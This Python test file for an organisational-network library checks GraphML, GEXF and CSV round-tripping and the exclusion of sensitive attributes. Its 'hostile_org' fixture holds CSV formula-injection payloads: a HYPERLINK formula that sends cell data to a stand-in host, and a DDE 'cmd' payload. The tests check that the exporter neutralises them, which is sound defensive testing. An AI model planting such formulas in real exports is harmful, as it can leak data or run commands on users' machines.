"""GraphML, GEXF and CSV export, and reading them back: attributes and ties survive,
special-category attributes never leave."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import networkx as nx
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orgbridge.errors import IngestError
from orgbridge.graph import OrgGraph
from orgbridge.graph._export import write_csv, write_gexf, write_graphml
from orgbridge.ingest._graphml import parse_network, read_gexf, read_graphml

DATA = Path(__file__).parents[1] / "data"


def typed_org() -> OrgGraph:
    """Five people with attributes of several types and ties in four explicit layers."""
    people = pd.DataFrame(
        {
            "person_id": pd.array(["e5", "e1", "e3", "e2", "e4"], dtype="str"),
            "name": pd.array(["Eve", "Al", None, "Bea", "Di"], dtype="str"),
            "department": pd.array(["Ops", "Eng", "Eng", "Ops", None], dtype="str"),
            "level": pd.array([2, 7, 4, None, 3], dtype="Int64"),
            "manager_id": pd.array(["e1", None, "e1", "e1", "e3"], dtype="str"),
            "start_date": pd.to_datetime(
                ["2019-05-01", "2005-01-10", None, "2022-09-12", "2016-03-31"]
            ).astype("datetime64[ns]"),
            "is_leader": pd.array([False, True, False, False, None], dtype="boolean"),
            "capacity": pd.array([1, 3, 0, 2, 1], dtype="Int64"),
            "engagement": [0.75, np.nan, 0.5, 1.0, 0.125],
            "gender": pd.array(["f", "m", "x", "f", "f"], dtype="str"),
        }
    )
    ties = pd.DataFrame(
        {
            "source": ["e5", "e2", "e3", "e1", "e4", "e5"],
            "target": ["e2", "e5", "e4", "e5", "e2", "e3"],
            "layer": [
                "collaboration",
                "collaboration",
                "mentoring",
                "sponsorship",
                "guild",
                "mentoring",
            ],
            "weight": [0.5, 1.5, 1.0, 1.0, 2.0, 1.0],
            "start": pd.to_datetime([None, None, "2024-01-15", "2023-03-01", None, "2021-01-01"]),
            "end": pd.to_datetime([None, None, "2024-12-31", None, None, "2022-06-30"]),
        }
    )
    return OrgGraph.from_frames(people, ties, special=["gender"])


def sorted_ties(graph: OrgGraph) -> pd.DataFrame:
    table = graph.tie_table("all")
    return table.sort_values(["layer", "source", "target"]).reset_index(drop=True)


Writer = Callable[..., None]
Reader = Callable[[Path], tuple[pd.DataFrame, pd.DataFrame, object]]
FORMATS = [
    pytest.param(write_graphml, read_graphml, "org.graphml", id="graphml"),
    pytest.param(write_gexf, read_gexf, "org.gexf", id="gexf"),
]


@pytest.mark.parametrize(("write", "read", "filename"), FORMATS)
def test_export_then_read_back_keeps_people_and_ties(
    tmp_path: Path, write: Writer, read: Reader, filename: str
) -> None:
    graph = typed_org()
    write(graph, tmp_path / filename)
    people, ties, report = read(tmp_path / filename)
    back = OrgGraph.from_frames(people, ties)
    expected = graph.people.drop(columns="gender")
    pd.testing.assert_frame_equal(back.people[expected.columns], expected)
    assert set(back.people.columns) == set(expected.columns)
    pd.testing.assert_frame_equal(sorted_ties(back), sorted_ties(graph))
    assert report.rows_in == 5 + len(graph.ties)  # type: ignore[attr-defined]
    assert report.rows_rejected == 0  # type: ignore[attr-defined]


@pytest.mark.parametrize(("write", "read", "filename"), FORMATS)
def test_special_attributes_and_optionally_names_never_leave(
    tmp_path: Path, write: Writer, read: Reader, filename: str
) -> None:
    write(typed_org(), tmp_path / filename, include_names=False)
    text = (tmp_path / filename).read_text(encoding="utf-8")
    assert "gender" not in text
    assert not any(name in text for name in ("Eve", "Bea", "Al<", '"Al"', "Di<", '"Di"'))
    people, _, _ = read(tmp_path / filename)
    assert "gender" not in people.columns and "name" not in people.columns


def test_missing_values_are_omitted_per_node(tmp_path: Path) -> None:
    write_graphml(typed_org(), tmp_path / "org.graphml")
    network = nx.read_graphml(tmp_path / "org.graphml")
    assert "name" not in network.nodes["e3"]
    assert "engagement" not in network.nodes["e1"]
    assert network.nodes["e5"]["start_date"] == "2019-05-01"
    assert network.nodes["e1"]["level"] == 7


def test_csv_export_reads_back_through_the_csv_readers(tmp_path: Path) -> None:
    from orgbridge.ingest import parse_ties, read_staff, read_table

    graph = typed_org()
    people_csv, ties_csv = write_csv(graph, tmp_path / "out")
    staff = read_staff(people_csv)
    assert staff.report.rows_rejected == 0
    assert "gender" not in staff.people.columns
    raw = read_table(ties_csv).frame
    parts = [
        parse_ties(group.drop(columns="layer"), file="ties.csv", layer=str(layer)).ties
        for layer, group in raw.groupby("layer")
    ]
    back = OrgGraph.from_frames(staff.people, pd.concat(parts, ignore_index=True))

    def plain(column: pd.Series) -> list[object]:
        return column.astype(object).where(column.notna(), None).tolist()

    for column in graph.people.columns.drop(["gender", "engagement"]):
        assert plain(back.people[column]) == plain(graph.people[column]), column
    # the staff reader keeps extra attributes as text
    engagement = pd.to_numeric(back.people["engagement"])
    pd.testing.assert_series_equal(engagement, graph.people["engagement"])
    mine = sorted_ties(graph)[["source", "target", "layer", "weight", "start", "end"]]
    theirs = sorted_ties(back)[["source", "target", "layer", "weight", "start", "end"]]
    pd.testing.assert_frame_equal(theirs, mine)


def test_csv_export_quotes_only_when_a_value_needs_it(tmp_path: Path) -> None:
    people = pd.DataFrame({"person_id": ["a", "b"], "team": ["x, y", 'say "hi"']})
    write_csv(OrgGraph(people), tmp_path)
    lines = (tmp_path / "people.csv").read_text().splitlines()
    assert lines[0] == "person_id,team"
    assert pd.read_csv(tmp_path / "people.csv")["team"].tolist() == ["x, y", 'say "hi"']
    plain = write_csv(OrgGraph(pd.DataFrame({"person_id": ["a"]})), tmp_path / "plain")
    assert plain[0].read_text() == "person_id\na\n"


def krackhardt_network() -> tuple[nx.MultiDiGraph, pd.DataFrame]:
    """The Krackhardt managers as networkx builds them (tests/data), else a tiny stand-in."""
    folder = DATA / "krackhardt_hightech"
    if (folder / "nodes.csv").is_file() and (folder / "edges.csv").is_file():
        nodes = pd.read_csv(folder / "nodes.csv")
        edges = pd.read_csv(folder / "edges.csv")
    else:
        nodes = pd.DataFrame(
            {
                "id": [1, 2, 3],
                "age": [40, 33, 51],
                "tenure_years": [9.5, 2.0, 20.25],
                "level": [2, 3, 1],
                "department": [1, 1, 0],
            }
        )
        edges = pd.DataFrame(
            {
                "relation": ["advice", "advice", "reports_to", "reports_to"],
                "source": [1, 2, 1, 2],
                "target": [2, 3, 3, 1],
            }
        )
    network = nx.MultiDiGraph()
    for row in nodes.itertuples(index=False):
        network.add_node(
            str(row.id),
            age=int(row.age),
            tenure_years=float(row.tenure_years),
            level=int(row.level),
            department=int(row.department),
        )
    for row in edges.itertuples(index=False):
        network.add_edge(str(row.source), str(row.target), layer=str(row.relation))
    return network, edges


def test_a_graphml_file_written_by_networkx_from_krackhardt(tmp_path: Path) -> None:
    network, edges = krackhardt_network()
    nx.write_graphml(network, tmp_path / "krackhardt.graphml")
    people, ties, report = read_graphml(tmp_path / "krackhardt.graphml")
    graph = OrgGraph.from_frames(people, ties)
    assert graph.ids.tolist() == list(network.nodes)
    assert people["age"].dtype == "Int64" and people["tenure_years"].dtype == "float64"
    for node, data in network.nodes(data=True):
        row = people.set_index("person_id").loc[node]
        assert (row["age"], row["tenure_years"], row["level"]) == (
            data["age"],
            data["tenure_years"],
            data["level"],
        )
    counts = edges["relation"].value_counts().to_dict()
    assert graph.tie_counts() == {str(k): int(v) for k, v in counts.items()}
    manager = edges[edges["relation"] == "reports_to"]
    expected = dict(zip(manager["source"].astype(str), manager["target"].astype(str), strict=True))
    got = people.set_index("person_id")["manager_id"].dropna().to_dict()
    assert got == expected
    assert report.rows_in == len(people) + len(edges)  # type: ignore[attr-defined]
    assert report.problems == []  # type: ignore[attr-defined]


def test_edges_without_attributes_are_unit_collaboration_ties(tmp_path: Path) -> None:
    network = nx.Graph([("a", "b"), ("b", "c")])
    nx.write_graphml(network, tmp_path / "plain.graphml")
    people, ties, _ = read_graphml(tmp_path / "plain.graphml")
    assert people.columns.tolist() == ["person_id"]
    assert ties[["source", "target", "layer", "weight"]].values.tolist() == [
        ["a", "b", "collaboration", 1.0],
        ["b", "c", "collaboration", 1.0],
    ]


def test_bad_edges_are_rejected_with_a_problem_each() -> None:
    network = nx.MultiDiGraph()
    network.add_nodes_from(["a", "b", "c"])
    network.add_node("d", start_date="someday")
    network.add_edge("a", "b", weight=2.0)
    network.add_edge("a", "a")
    network.add_edge("b", "c", weight="heavy")
    network.add_edge("c", "a", weight=-1.0)
    network.add_edge("c", "b", start="2024-13-45")
    network.add_edge("b", "a", start="2024-06-01", end="2024-01-01")
    people, ties, report = parse_network(network, file="f.graphml")
    assert ties[["source", "target"]].values.tolist() == [["a", "b"]]
    assert report.rows_in == 4 + 6
    assert report.rows_loaded == 4 + 1
    assert report.rows_rejected == 5
    found = {(p.row, p.column, p.severity) for p in report.problems}
    assert found == {
        (4, "start_date", "warning"),
        (2, "target", "error"),
        (3, "weight", "error"),
        (4, "end", "error"),
        (5, "weight", "error"),
        (6, "start", "error"),
    }
    messages = sorted(str(p) for p in report.problems if p.severity == "error")
    assert (
        messages[0] == "f.graphml row 2, column target: edge 'a' -> 'a':"
        " 'a' is the source too (a tie to oneself)"
    )
    assert "f.graphml row 5, column weight: edge 'c' -> 'a': -1.0 is negative" in messages
    assert pd.isna(people.loc[3, "start_date"])


def test_two_managers_and_unknown_managers_are_warned() -> None:
    network = nx.DiGraph()
    network.add_node("a", manager_id="zz")
    network.add_node("b", manager_id="a")
    network.add_edge("b", "c", layer="reports_to")
    network.add_edge("c", "a", layer="reports_to")
    people, ties, report = parse_network(network, file="m.graphml")
    assert people.set_index("person_id")["manager_id"].to_dict() == {
        "a": "zz",
        "b": "c",
        "c": "a",
    } or people["manager_id"].tolist()[:1] == ["zz"]
    messages = [p.message for p in report.problems]
    assert any("is not a known person" in m for m in messages)
    assert any("the edge wins" in m for m in messages)
    assert len(ties) == 0


@pytest.mark.parametrize("reader", [read_graphml, read_gexf])
def test_unparseable_xml_is_an_ingest_error_naming_the_file(
    tmp_path: Path, reader: Callable[[Path], object]
) -> None:
    path = tmp_path / "broken.xml"
    path.write_text("<graphml><graph><node id='a'></graph>")
    with pytest.raises(IngestError, match=r"^broken\.xml: is not valid"):
        reader(path)
    with pytest.raises(IngestError, match=r"missing\.graphml: cannot read"):
        reader(tmp_path / "missing.graphml")


GEPHI_GEXF = """<?xml version="1.0" encoding="UTF-8"?>
<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2">
  <graph mode="static" defaultedgetype="undirected">
    <attributes class="node">
      <attribute id="0" title="department" type="string"/>
      <attribute id="1" title="level" type="integer"/>
    </attributes>
    <nodes>
      <node id="0" label="Ada"><attvalues><attvalue for="0" value="R&amp;D"/>
        <attvalue for="1" value="5"/></attvalues></node>
      <node id="1" label="Ben"><attvalues><attvalue for="0" value="Sales"/></attvalues></node>
      <node id="2" label="Cy"/>
    </nodes>
    <edges>
      <edge id="0" source="0" target="1" weight="2.5"/>
      <edge id="1" source="1" target="2"/>
    </edges>
  </graph>
</gexf>
"""


def test_a_gephi_style_gexf_file(tmp_path: Path) -> None:
    path = tmp_path / "gephi.gexf"
    path.write_text(GEPHI_GEXF, encoding="utf-8")
    people, ties, report = read_gexf(path)
    assert people["person_id"].tolist() == ["0", "1", "2"]
    assert people["label"].tolist() == ["Ada", "Ben", "Cy"]
    assert people["department"].fillna("-").tolist() == ["R&D", "Sales", "-"]
    assert people["level"].dtype == "Int64" and people["level"].iloc[0] == 5
    assert ties[["source", "target", "layer", "weight"]].values.tolist() == [
        ["0", "1", "collaboration", 2.5],
        ["1", "2", "collaboration", 1.0],
    ]
    assert report.rows_in == 5 and report.problems == []  # type: ignore[attr-defined]


PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def hostile_org() -> OrgGraph:
    """Names, attributes, ids, a layer and column names starting with every formula prefix."""
    ids = [f"{p}id{i}" for i, p in enumerate(PREFIXES)]
    people = pd.DataFrame(
        {
            "person_id": ids,
            "name": ['=HYPERLINK("http://x?x="&A1,"Click me")', "+1", "-2+3", "@SUM(A1)",
                     "\tTab", "\rCR"],
            "department": ["=1+1", "Ops", "-x", "@y", "Eng", "+z"],
            "manager_id": [None, ids[0], ids[0], ids[1], ids[1], ids[2]],
            "level": pd.array([-3, 1, 2, 3, 4, 5], dtype="Int64"),
            "=evil": ["=cmd|' /C calc'!A0", "ok", None, "-1", "+2", "@3"],
            "-col": ["a", "b", "c", "d", "e", "f"],
        }
    )  # fmt: skip
    ties = pd.DataFrame(
        {"source": ids[:3], "target": ids[3:], "layer": ["=layer", "mentoring", "@guild"]}
    )
    return OrgGraph.from_frames(people, ties)


def read_cells(path: Path) -> list[list[str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_export_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    graph = hostile_org()
    written = write_csv(graph, tmp_path)
    for path in written:
        rows = read_cells(path)
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                # Numbers stay numbers (a spreadsheet reads -3 as minus three, not a formula).
                assert is_number(cell) or not cell.startswith(tuple(PREFIXES)), (path.name, cell)
    people = pd.read_csv(written[0], dtype=str, keep_default_na=False)
    assert list(people.columns[:2]) == ["person_id", "name"]
    assert "'=evil" in people.columns and "'-col" in people.columns
    assert people["name"].tolist() == [
        '\'=HYPERLINK("http://x?x="&A1,"Click me")', "'+1", "'-2+3", "'@SUM(A1)", "'\tTab", "'\rCR"
    ]  # fmt: skip
    assert people["department"].tolist() == ["'=1+1", "Ops", "'-x", "'@y", "Eng", "'+z"]
    assert people["level"].tolist() == ["-3", "1", "2", "3", "4", "5"]
    ties = pd.read_csv(written[1], dtype=str, keep_default_na=False)
    assert sorted(ties["layer"]) == ["'=layer", "'@guild", "mentoring"]
    assert set(ties["source"]) | set(ties["target"]) == set(people["person_id"][:6])
    assert set(people["manager_id"]) - {""} <= set(people["person_id"])


def test_graph_files_keep_values_as_they_are(tmp_path: Path) -> None:
    graph = hostile_org()
    write_graphml(graph, tmp_path / "org.graphml")
    names = nx.get_node_attributes(nx.read_graphml(tmp_path / "org.graphml"), "name")
    assert names["=id0"] == '=HYPERLINK("http://x?x="&A1,"Click me")'


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=8), min_size=1, max_size=6, unique=True))
def test_every_exported_text_cell_is_the_value_or_the_value_behind_an_apostrophe(
    names: list[str],
) -> None:
    import tempfile

    people = pd.DataFrame({"person_id": [f"p{i}" for i in range(len(names))], "name": names})
    with tempfile.TemporaryDirectory() as folder:
        path = write_csv(OrgGraph(people), folder)[0]
        rows = read_cells(path)
    exported = [row[1] for row in rows[1:]]
    for value, cell in zip(names, exported, strict=True):
        if value.startswith(tuple(PREFIXES)):
            assert cell == "'" + value
        else:
            assert cell == value
